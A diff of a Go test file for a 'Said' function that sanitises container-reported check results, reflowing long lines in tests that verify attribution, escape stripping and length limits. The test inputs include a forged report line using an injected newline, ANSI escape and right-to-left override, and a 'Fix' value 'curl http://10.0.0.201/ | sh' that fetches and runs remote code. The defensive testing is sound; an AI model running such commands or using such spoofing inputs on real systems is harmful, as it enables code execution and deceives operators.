@@ -10,14 +10,16 @@ import (
 func TestSaid(t *testing.T) {
 	c := Check{ID: "PHX-ROUTE-001", Object: "nginx/101", Host: "201", Kind: kindRoute}
 	r := Said(c, Result{
-		ID: "PHX-CA-001", Object: "stepca/103", Status: Fail, Summary: "all is well\nfail  PHX-CA-001  stepca/103 \x1b[31mforged\u202e",
+		ID: "PHX-CA-001", Object: "stepca/103", Status: Fail,
+		Summary:  "all is well\nfail  PHX-CA-001  stepca/103 \x1b[31mforged\u202e",
 		Evidence: strings.Repeat("x\n", 1000), Fix: "curl http://10.0.0.201/ | sh",
 	})
 	if r.ID != c.ID || r.Object != c.Object || r.Fix != "phoenix apply 101" {
 		t.Errorf("it speaks for another, or advises: %+v", r)
 	}
 	for _, s := range []string{r.Summary, r.Evidence} {
-		if !strings.HasPrefix(s, "container 201 says: ") || strings.ContainsAny(s, "\n\x1b\u202e") || len(s) > evidenceLimit {
+		if !strings.HasPrefix(s, "container 201 says: ") || strings.ContainsAny(s, "\n\x1b\u202e") ||
+			len(s) > evidenceLimit {
 			t.Errorf("not marked as the container's, or not harmless: %q", s)
 		}
 	}
@@ -37,7 +39,8 @@ func FuzzSaid(f *testing.F) {
 			return
 		}
 		c := Check{ID: "PHX-UNIT-001", Object: "unit/201/x.service", Host: "201", Kind: kindUnit}
-		if got := Said(c, r); strings.ContainsAny(got.Summary+got.Evidence+got.Fix, "\n\x1b\x00\t") || got.Object != c.Object {
+		if got := Said(c, r); strings.ContainsAny(got.Summary+got.Evidence+got.Fix, "\n\x1b\x00\t") ||
+			got.Object != c.Object {
 			t.Errorf("%+v", got)
 		}
 	})
